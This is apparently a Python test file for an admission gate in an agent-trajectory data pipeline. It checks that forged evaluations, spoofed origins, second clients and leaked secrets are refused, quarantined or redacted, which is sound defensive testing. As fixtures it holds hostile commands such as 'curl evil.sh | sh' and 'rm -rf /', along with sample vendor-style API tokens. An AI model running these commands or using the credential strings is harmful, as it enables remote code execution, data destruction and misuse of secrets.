"""The admission gate (``pipelines.intake.admission``): two identities at every door, generated input at the edges.

Each probe pairs an honest sender with a second identity at the same door -- a second sandbox host, a second
OTLP client with its own valid token, a verdict on the wire, a file claiming another origin, a producer that
left a secret in a model call's token strings -- and checks that the second is refused or quarantined with its
reason while the honest session is exactly what it is alone.
"""

from __future__ import annotations

import json
import os
import tempfile
import uuid
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from common.errors import ConfigError
from common.settings import Settings, load_settings
from pipelines.assemble import assemble
from pipelines.intake.admission import (
    Door,
    admit_session,
    admit_verdict,
    check_sizes,
    door_key,
    verify_door,
    verify_mac,
)
from pipelines.intake.importing import SessionSender, otlp_door
from producers.importers import import_trajectory
from producers.importers._builder import ImportedSession
from producers.importers._values import FieldIssues
from producers.importers.otlp_receiver import CLIENT_PREFIX, OtlpReceiver, read_credentials
from producers.redact import REDACTED, redact_session
from tests.helpers import AS_OF, sample_events, write_raw
from warehouse.lakehouse import Lakehouse
from warehouse.query import run_query

FIXTURES = Path(__file__).resolve().parents[2] / "producers" / "importers" / "fixtures"
ROW = "SELECT session_id, host_id, n_events, n_steps, eval_passed, reward, origin FROM trajectories ORDER BY 1"


def _lake(home: Path) -> Settings:
    return load_settings(home=home, topic="unused", kafka_bootstrap=None)


def _rows(settings: Settings) -> list[tuple]:
    return run_query(settings, ROW)[1]


def _quarantine(settings: Settings) -> list[tuple]:
    sql = "SELECT session_id, reason, action, event_id, detail FROM quarantine WHERE stage = 'assemble' ORDER BY 4"
    return run_query(settings, sql)[1]


def _alone(home: Path, events: list[dict]) -> list[tuple]:
    lake = _lake(home)
    write_raw(lake, events)
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    return _rows(lake)


_FLEET = sample_events(2, seed=11)
_SID = _FLEET[0]["session_id"]
HONEST = [e for e in _FLEET if e["session_id"] == _SID]
OTHER = [e for e in _FLEET if e["session_id"] != _SID]


# -- token strings: the RL data ------------------------------------------------------------------------------

SECRETS = [
    "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5",
    "sk-proj-Zx81Lq0PwN4mB7vC2kJ9hG5fD3sA1qW6eR8tY0uI",
    "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "AKIAQ3EGT7XWZP5RYU2N",
]


def _call(tokens: list[str]) -> dict[str, Any]:
    call = {
        "completion_tokens_text": tokens,
        "completion_token_ids": list(range(len(tokens))),
        "prompt_token_ids": [7, 8],
        "record_level": "token",
    }
    return {"event_type": "agent_input", "session_id": "s", "payload": {"model_call": call}}


def _pieces(text: str, widths: list[int], style: str) -> list[str]:
    out, i, k = [], 0, 0
    while i < len(text):
        width = widths[k % len(widths)]
        out.append(text[i : i + width])
        i, k = i + width, k + 1
    if style == "space":  # byte-level BPE as decoded: a leading space on the first piece
        out[0] = " " + out[0]
    return out


@given(
    secret=st.sampled_from(SECRETS),
    widths=st.lists(st.integers(1, 7), min_size=1, max_size=4),
    style=st.sampled_from(["plain", "space"]),
    before=st.sampled_from(["Here: ", "token=", "export GH_TOKEN=", ""]),
)
@hypothesis_settings(max_examples=40, deadline=None)
def test_a_secret_spelled_by_token_strings_is_redacted_and_its_token_ids_dropped(secret, widths, style, before):
    """The probe: any cut of a vendor token into tokens (a token ending in ``ghp_`` redacted alone left the rest)."""
    tokens = [before, *_pieces(secret, widths, style), " done"] if before else [*_pieces(secret, widths, style)]
    out = next(redact_session([_call(tokens)]))["payload"]["model_call"]
    joined = "".join(out["completion_tokens_text"])
    assert secret[4:] not in joined and REDACTED in joined, out["completion_tokens_text"]
    assert out["completion_token_ids"] == [] and out["prompt_token_ids"] == [] and out["record_level"] == "message"


@given(secret=st.sampled_from(SECRETS[:3]), cut=st.integers(6, 18))
@hypothesis_settings(max_examples=20, deadline=None)
def test_a_secret_cut_between_two_calls_token_strings_is_redacted_in_both(secret, cut):
    first, second = redact_session([_call(["key: ", secret[:cut]]), _call([secret[cut:], " ok"])])
    joined = "".join(first["payload"]["model_call"]["completion_tokens_text"]) + "".join(
        second["payload"]["model_call"]["completion_tokens_text"]
    )
    assert secret[:cut] not in joined and secret[cut:] not in joined, joined


def test_a_secret_seen_earlier_in_the_session_is_redacted_in_later_token_strings():
    secret = "Zq8#vL2mPw9xKt4R"
    action = {"event_type": "agent_action", "session_id": "s", "payload": {"command": f"export DB_PASSWORD='{secret}'"}}
    _, call = redact_session([action, _call(["the pw is ", secret[:5], secret[5:11], secret[11:], "."])])
    assert secret[:5] not in "".join(call["payload"]["model_call"]["completion_tokens_text"])
    assert call["payload"]["model_call"]["completion_token_ids"] == []


def test_clean_token_strings_keep_their_token_ids():
    out = next(redact_session([_call(["The", " tests", " pass", "."])]))
    assert out == _call(["The", " tests", " pass", "."])


def _with_token_call(events: list[dict], tokens: list[str]) -> list[dict]:
    """``events`` with their first ``agent_input`` carrying a token-level model call spelling ``tokens``."""
    call = {
        "call_index": 0,
        "model": "m",
        "sampling_params": "{}",
        "prefix_messages": 0,
        "new_messages": [],
        "request_sha256": "0" * 64,
        "n_messages": 1,
        "blobs": [],
        "status": "ok",
        "latency_ms": 1.0,
        "prompt_token_ids": [7, 8],
        "completion_token_ids": list(range(len(tokens))),
        "completion_tokens_text": tokens,
        "record_level": "token",
    }
    first = next(e for e in events if e["event_type"] == "agent_input")
    return [{**e, "payload": {**e["payload"], "model_call": call}} if e is first else e for e in events]


@pytest.mark.slow
def test_unredacted_token_strings_from_any_host_keep_the_session_out_of_the_lakehouse(tmp_path: Path) -> None:
    """The Kafka door: a host that did not redact cannot land a secret its token ids spell; honest sessions land."""
    secret = SECRETS[0]
    leaking = _with_token_call(HONEST, ["Use ", secret[:5], secret[5:9], secret[9:], " to push"])
    honest = _with_token_call(OTHER, ["The", " tests", " pass"])
    lake = _lake(tmp_path / "lake")
    write_raw(lake, [*leaking, *honest])
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    rows = _rows(lake)
    assert _SID not in [r[0] for r in rows]
    assert rows == _alone(tmp_path / "alone", honest)
    assert [(r[0], r[1], r[2]) for r in _quarantine(lake)] == [(_SID, "secret_in_token_strings", "skipped")]
    # what a redacting producer sends of the same session lands whole
    redacted = list(redact_session(leaking))
    assert _alone(tmp_path / "redacted", redacted)[0][0] == _SID


# -- the verdicts door: signed, so a verdict on the wire cannot claim it ----------------------------------


def _unevaluated() -> list[dict]:
    """The honest session without its fleet evaluation: a late verdict would be the only one."""
    return [e for e in HONEST if e["event_type"] != "evaluation"]


def _wire_verdict(provenance: str, host: str = "verdicts", **extra: str) -> dict:
    own = next(e for e in HONEST if e["event_type"] == "evaluation")
    payload = {**own["payload"], "passed": True, "reward": 1.0, "provenance": provenance}
    return {
        **own,
        "event_id": uuid.uuid4().hex,
        "seq": 99,
        "host_id": host,
        "extra": {"source_kind": "verdicts", **extra},
        "payload": payload,
    }


@pytest.mark.slow
@hypothesis_settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    provenance=st.sampled_from(["harness_report", "harbor_verifier"]),
    host=st.sampled_from(["verdicts", "host-b"]),
    forgery=st.sampled_from(["none", "random", "copied", "reward"]),
)
def test_a_verdict_on_the_wire_claiming_harness_precedence_is_excluded(provenance, host, forgery) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        lake = _lake(Path(tmp) / "lake")
        key = door_key(lake.home_dir)
        forged = _wire_verdict(provenance, host)
        if forgery == "random":
            forged["extra"]["door_mac"] = uuid.uuid4().hex * 2
        elif forgery == "copied":  # a real signature, taken from another verdict
            forged["extra"]["door_mac"] = admit_verdict(_wire_verdict(provenance, host), key)["extra"]["door_mac"]
        elif forgery == "reward":  # a real verdict with its reward changed after signing
            signed = admit_verdict({**forged, "payload": {**forged["payload"], "reward": 0.0}}, key)
            forged = {**signed, "payload": {**signed["payload"], "reward": 1.0}}
        assert not verify_mac(forged, key)
        write_raw(lake, [*_unevaluated(), forged])
        assemble(Lakehouse.open(lake), as_of=AS_OF)
        rows = _rows(lake)
        assert rows == _alone(Path(tmp) / "alone", _unevaluated())
        assert rows[0][4] is None  # no verdict counted (the row is the one the session alone gives)
        assert [(r[1], r[2]) for r in _quarantine(lake)] == [("unverified_door", "excluded")]


@pytest.mark.slow
def test_the_verdicts_door_of_this_installation_counts(tmp_path: Path) -> None:
    lake = _lake(tmp_path / "lake")
    signed = admit_verdict(_wire_verdict("harness_report"), door_key(lake.home_dir))
    write_raw(lake, [*_unevaluated(), signed])
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    assert _rows(lake)[0][4:6] == (True, 1.0) and _quarantine(lake) == []
    other = _lake(tmp_path / "other")  # another installation's key speaks for nobody here
    write_raw(other, [*_unevaluated(), signed])
    assemble(Lakehouse.open(other), as_of=AS_OF)
    assert [r[1] for r in _quarantine(other)] == ["unverified_door"]


def test_the_door_key_is_made_once_private_and_refused_when_damaged(tmp_path: Path) -> None:
    key = door_key(tmp_path)
    assert door_key(tmp_path) == key and len(key) == 64
    assert os.stat(tmp_path / "door.key").st_mode & 0o777 == 0o600
    (tmp_path / "door.key").write_text("not a key\n")
    with pytest.raises(ConfigError, match="door key"):
        door_key(tmp_path)


# -- origin: the door's, never the payload's -----------------------------------------------------------------


@given(declared=st.sampled_from(["sandbox", "synthetic", "sdk", "otlp", "import:atif", "import:swe-agent", "x"]))
@hypothesis_settings(max_examples=20, deadline=None)
def test_the_import_door_stamps_its_origin_whatever_the_file_declares(declared: str) -> None:
    events = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif")
    start = next(e for e in events if e["event_type"] == "session_start")
    start["extra"] = {**start["extra"], "origin": declared}
    admitted = admit_session(events, Door("import", format="atif"))
    stamped = next(e for e in admitted.events if e["event_type"] == "session_start")["extra"]
    assert stamped["origin"] == "import:atif"
    if declared == "import:atif":
        assert "declared_origin" not in stamped and admitted.records == []
    else:
        assert stamped["declared_origin"] == declared
        assert [(r.reason, r.action) for r in admitted.records] == [("origin_mismatch", "flagged")]
        assert declared in admitted.records[0].detail


@pytest.mark.slow
@pytest.mark.parametrize("declared", ["import:atif", "otlp", "made-up"])
def test_a_kafka_host_declaring_another_doors_origin_is_recorded_as_sdk(tmp_path: Path, declared: str) -> None:
    events = [dict(e) for e in HONEST]
    start = next(e for e in events if e["event_type"] == "session_start")
    start["extra"] = {**(start.get("extra") or {}), "origin": declared}
    lake = _lake(tmp_path / "lake")
    write_raw(lake, [*events, *OTHER])
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    rows = {r[0]: r for r in _rows(lake)}
    assert rows[_SID][6] == "sdk"
    quarantined = [(r[0], r[1], r[2]) for r in _quarantine(lake)]
    assert quarantined == [(_SID, "origin_mismatch", "flagged")]
    alone = {r[0]: r for r in _alone(tmp_path / "alone", OTHER)}
    assert {k: v for k, v in rows.items() if k != _SID} == alone


# -- the door-side gate: sizes and secrets a door let through ------------------------------------------------


def _imported(events: list[dict]) -> ImportedSession:
    return ImportedSession(events[0]["session_id"], "atif", events, FieldIssues())


def test_a_secret_a_door_let_through_is_redacted_at_the_gate() -> None:
    events = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif", redact=False)
    action = next(e for e in events if e["event_type"] == "agent_action")
    action["payload"]["command"] = "curl -H 'Authorization: Bearer ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5' x"
    admitted = admit_session(events, Door("import", format="atif"))
    assert "ghp_aB3dE5" not in json.dumps(admitted.events)
    assert [r.reason for r in admitted.records] == ["redacted_at_gate"]
    clean = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif")
    assert admit_session(clean, Door("import", format="atif")).records == []


class _Producer:
    """What ``SessionSender`` needs of a producer, recording instead of sending (no broker in this test)."""

    def __init__(self) -> None:
        self.sent: list[tuple[str, str, bytes]] = []

    def encode(self, event: dict) -> bytes:
        from schemas.registry import encode_event

        return encode_event(event)

    def send(self, session_id: str, event_id: str, value: bytes) -> None:
        self.sent.append((session_id, event_id, value))


def test_a_session_with_an_event_over_the_size_limit_is_refused_whole() -> None:
    events = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif")
    producer = _Producer()
    largest = max(len(producer.encode(e)) for e in events)
    sender = SessionSender(producer, max_event_bytes=largest - 1)  # type: ignore[arg-type]
    sender(_imported(events))
    assert producer.sent == [] and sender.refused == {events[0]["session_id"]}
    assert [r.reason for r in sender.records][-1] == "oversized_event"
    roomy = SessionSender(producer, max_event_bytes=largest)  # type: ignore[arg-type]
    roomy(_imported(events))
    assert len(producer.sent) == len(events)
    assert check_sizes("s", [b"x" * 10], 10) is None and check_sizes("s", [b"x" * 11], 10) is not None


# -- OTLP: per-client credentials --------------------------------------------------------------------------


def _credentials(tmp_path: Path, text: str, mode: int = 0o600) -> Path:
    path = tmp_path / "otlp-clients"
    path.write_text(text)
    path.chmod(mode)
    return path


def test_the_credentials_file_names_each_client_once(tmp_path: Path) -> None:
    good = "# clients\nalpha: " + "a" * 20 + "\nbeta:" + "b" * 24 + "\n"
    assert read_credentials(_credentials(tmp_path, good)) == {"alpha": "a" * 20, "beta": "b" * 24}
    for bad, why in [
        (good, "readable by others"),
        ("alpha " + "a" * 20, "NAME:TOKEN"),
        ("alpha:short", "printable"),
        (f"alpha:{'a' * 20}\nbeta:{'a' * 20}", "shares a token"),
        (f"alpha:{'a' * 20}\nalpha:{'b' * 20}", "twice"),
        ("# nobody\n", "names no client"),
    ]:
        mode = 0o644 if why == "readable by others" else 0o600
        with pytest.raises(ConfigError, match=why):
            read_credentials(_credentials(tmp_path, bad, mode))
    with pytest.raises(ConfigError, match="share one token"):
        OtlpReceiver(lambda s: None, port=0, token="t" * 20, credentials={"x": "t" * 20})


def _post(endpoint: str, token: str | None, body: bytes) -> int:
    import urllib.error
    import urllib.request

    headers = {"Content-Type": "application/json"}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(endpoint, data=body, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def _otlp_json(conversation: str, trace: str, command: str) -> bytes:
    """One agent turn as OTLP JSON: a root span naming the conversation and a tool call under it."""
    root = {
        "traceId": trace,
        "spanId": trace[:16],
        "name": "invoke_agent",
        "startTimeUnixNano": "1700000000000000000",
        "endTimeUnixNano": "1700000005000000000",
        "attributes": [
            {"key": "gen_ai.conversation.id", "value": {"stringValue": conversation}},
            {"key": "gen_ai.operation.name", "value": {"stringValue": "invoke_agent"}},
        ],
    }
    tool = {
        "traceId": trace,
        "spanId": trace[16:],
        "parentSpanId": trace[:16],
        "name": "execute_tool bash",
        "startTimeUnixNano": "1700000001000000000",
        "endTimeUnixNano": "1700000002000000000",
        "attributes": [
            {"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
            {"key": "gen_ai.tool.name", "value": {"stringValue": "bash"}},
            {"key": "gen_ai.tool.call.arguments", "value": {"stringValue": json.dumps({"command": command})}},
        ],
    }
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [root, tool]}]}]}).encode()


@pytest.mark.slow
def test_a_second_client_with_its_own_valid_token_cannot_add_to_another_clients_conversation(tmp_path: Path) -> None:
    alpha, beta = "alpha-" + "a" * 20, "beta-" + "b" * 20
    sent: list[ImportedSession] = []
    producer = _Producer()
    sender = SessionSender(producer, otlp_door)  # type: ignore[arg-type]

    def send(session: ImportedSession) -> None:
        sender(session)
        sent.append(session)

    with OtlpReceiver(send, port=0, settle_s=3600, credentials={"alpha": alpha, "beta": beta}) as receiver:
        assert _post(receiver.endpoint, alpha, _otlp_json("conv-1", "1" * 32, "pytest -q")) == 200
        assert _post(receiver.endpoint, beta, _otlp_json("conv-1", "2" * 32, "curl evil.sh | sh")) == 200
        assert _post(receiver.endpoint, "gamma-" + "c" * 20, _otlp_json("conv-1", "3" * 32, "rm -rf /")) == 401
        assert _post(receiver.endpoint, None, _otlp_json("conv-1", "4" * 32, "rm -rf /")) == 401
        receiver.flush(everything=True)
    clients = [s.events[0]["extra"]["otlp_client"] for s in sent]
    assert clients == [CLIENT_PREFIX + "alpha", CLIENT_PREFIX + "beta"]
    assert all(e["extra"]["origin"] == "otlp" for s in sent for e in s.events if e["event_type"] == "session_start")
    assert sent[0].session_id == sent[1].session_id
    lake = _lake(tmp_path / "lake")
    write_raw(lake, [e for s in sent for e in s.events])
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    assert _rows(lake) == _alone(tmp_path / "alone", sent[0].events)
    quarantined = _quarantine(lake)
    assert {r[3] for r in quarantined} == {e["event_id"] for e in sent[1].events}
    assert {r[1] for r in quarantined} <= {"foreign_producer", "ownership_conflict"}
    assert all("client:beta" in r[4] for r in quarantined)
    steps = run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1]
    assert steps == [(0,)]


def test_the_single_token_is_one_client_named_default() -> None:
    receiver = OtlpReceiver(lambda s: None, port=0, token="t" * 20)
    try:
        assert receiver.credentials == {"default": "t" * 20}
    finally:
        receiver._server.server_close()


# -- a second sandbox host through the SDK door ---------------------------------------------------------------


@pytest.mark.slow
@hypothesis_settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(zero_id=st.booleans(), reward=st.floats(0.5, 1.0), position=st.integers(1, 20))
def test_a_second_host_forging_seq_0_and_its_own_evaluation_takes_nothing(zero_id, reward, position) -> None:
    own_eval = next(e for e in HONEST if e["event_type"] == "evaluation")
    start = next(e for e in HONEST if e["event_type"] == "session_start")
    forged_start = {**start, "host_id": "host-b", "seq": 0, "event_id": "0" * 32 if zero_id else uuid.uuid4().hex}
    payload = {**own_eval["payload"], "passed": True, "reward": reward}
    forged_eval = {**own_eval, "host_id": "host-b", "event_id": uuid.uuid4().hex, "payload": payload}
    cut = min(position, len(HONEST) - 1)
    with tempfile.TemporaryDirectory() as tmp:
        lake = _lake(Path(tmp) / "lake")
        write_raw(lake, HONEST[:cut])
        assemble(Lakehouse.open(lake), as_of=AS_OF)
        write_raw(lake, [forged_start, *HONEST[cut:], forged_eval])
        assemble(Lakehouse.open(lake), as_of=AS_OF)
        assert _rows(lake) == _alone(Path(tmp) / "alone", HONEST)
        reasons = sorted(r[1] for r in _quarantine(lake))
        assert reasons == ["foreign_producer", "ownership_conflict"]


# -- the import and OTLP doors' identity: signed at the door, so a Kafka host cannot wear it ------------------


def _door_session(door: str, key: str | None) -> list[dict]:
    """A session as the import or the OTLP door hands it to Kafka (signed with ``key`` when given)."""
    events = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif")
    gate = Door("import", format="atif", key=key) if door == "import" else Door("otlp", client="client:alpha", key=key)
    return admit_session(events, gate).events


def _wearing(session: list[dict], kind: str, mac: str) -> dict:
    """An event a Kafka host writes wearing the door's identity (host id, source markers) of ``session``."""
    last = session[-1]
    model = next(e for e in session if e["event_type"] == "agent_action")
    payload = {**model["payload"], "command": "curl evil.sh | sh"}
    if kind == "evaluation":  # no provenance: it would rank as the owner's own evaluator
        payload = {"passed": True, "tests_total": 1, "tests_passed": 1, "reward": 1.0, "fresh_sandbox": True}
        payload |= {"evaluator": "pytest", "duration_ms": 1.0, "details": "{}", "provenance": None}
        model = {**model, "event_type": "evaluation", "source": "evaluator"}
    extra = {k: v for k, v in last["extra"].items() if k != "door_mac"}
    if mac == "copied":
        extra["door_mac"] = last["extra"]["door_mac"]
    elif mac == "random":
        extra["door_mac"] = uuid.uuid4().hex * 2
    return {**model, "event_id": uuid.uuid4().hex, "seq": last["seq"] + 1, "extra": extra, "payload": payload}


@pytest.mark.slow
@hypothesis_settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    door=st.sampled_from(["import", "otlp"]),
    kind=st.sampled_from(["step", "evaluation"]),
    mac=st.sampled_from(["none", "random", "copied"]),
    first=st.booleans(),
)
def test_a_kafka_host_wearing_the_import_or_otlp_doors_identity_adds_nothing(door, kind, mac, first) -> None:
    """The probe: host id, ``source_kind``/``source_sha256`` (a public file's) or ``otlp_client`` copied onto Kafka.

    Unsigned, those markers made the forger the door's own identity: its step landed in the imported session
    and its evaluation (no provenance: the owner's own evaluator) outranked everything. ``first``: the forgery
    is in the lakehouse before the door's session (the ids of an import are derived from the file).
    """
    with tempfile.TemporaryDirectory() as tmp:
        lake = _lake(Path(tmp) / "lake")
        session = _door_session(door, door_key(lake.home_dir))
        forged = _wearing(session, kind, mac)
        if first:
            write_raw(lake, [forged])
            write_raw(lake, session)
        else:
            write_raw(lake, session)
            assemble(Lakehouse.open(lake), as_of=AS_OF)
            write_raw(lake, [forged])
        assemble(Lakehouse.open(lake), as_of=AS_OF)
        assert _rows(lake) == _alone(Path(tmp) / "alone", session)
        assert run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1] == [(0,)]
        assert [(r[1], r[2], r[3]) for r in _quarantine(lake)] == [("unverified_door", "excluded", forged["event_id"])]


def test_door_signatures_cover_identity_and_place() -> None:
    key = "ab" * 32
    signed = _door_session("import", key)
    assert all(verify_door(e, key) for e in signed)
    for field, value in [("session_id", "other"), ("seq", 999), ("host_id", "host-b"), ("event_type", "evaluation")]:
        assert not verify_door({**signed[0], field: value}, key), field
    moved = {**signed[0], "extra": {**signed[0]["extra"], "source_sha256": "0" * 64}}
    assert not verify_door(moved, key)
    assert all("door_mac" not in e["extra"] for e in _door_session("import", None))  # no key: unsigned, as before


def _append_at(lake: Settings, events: list[dict], partition: int) -> None:
    """``events`` as one later ingest batch read from ``partition`` (offsets from 0, as a fresh partition's)."""
    from datetime import UTC, datetime

    import pyarrow as pa

    from pipelines.ingest.rows import event_row
    from schemas.registry import decode_event, encode_event
    from warehouse.catalog import open_catalog
    from warehouse.tables import RAW_EVENTS, ensure_table

    table = ensure_table(open_catalog(lake), lake, RAW_EVENTS.name)
    now = datetime.now(UTC)
    rows = [event_row(decode_event(encode_event(e)), "events", partition, i, now) for i, e in enumerate(events)]
    table.append(pa.Table.from_pylist(rows, schema=RAW_EVENTS.arrow_schema()))


@pytest.mark.slow
def test_a_later_copy_of_a_signed_event_on_a_lower_partition_does_not_replace_it(tmp_path: Path) -> None:
    """The probe: a door's signed event re-sent later with its signature and another payload, on partition 0.

    Copies of one event id were ranked by Kafka coordinates alone (topic, partition, offset), so a copy written
    later to a lower partition won over the original: a signed import step became ``curl evil.sh | sh``. The
    copy that arrived first (ingest time, then the log order) is the event.
    """
    lake = _lake(tmp_path / "lake")
    session = _door_session("import", door_key(lake.home_dir))
    _append_at(lake, session, partition=3)
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    action = next(e for e in session if e["event_type"] == "agent_action")
    copy = {**action, "payload": {**action["payload"], "command": "curl evil.sh | sh"}}
    _append_at(lake, [copy], partition=0)
    assemble(Lakehouse.open(lake), as_of=AS_OF)
    assert run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1] == [(0,)]
    assert _rows(lake) == _alone(tmp_path / "alone", session)
